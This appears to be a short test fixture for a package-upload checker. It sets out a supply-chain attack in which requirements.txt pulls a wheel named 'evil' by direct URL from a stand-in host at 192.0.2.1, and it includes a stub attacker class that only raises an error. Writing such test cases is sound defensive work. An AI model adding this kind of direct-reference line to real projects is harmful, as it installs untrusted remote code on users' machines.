# Links in requirements.txt
# tries: the line evil @ http://192.0.2.1/evil-1.0-py3-none-any.whl
# idea: direct references
# verdict: plays
# means: upload-check
# refusal: requirements

class SimplePlayer(Attacker):
    def attack(self):
        raise RuntimeError("it was never to be played")

# --- requirements.txt
evil @ http://192.0.2.1/evil-1.0-py3-none-any.whl
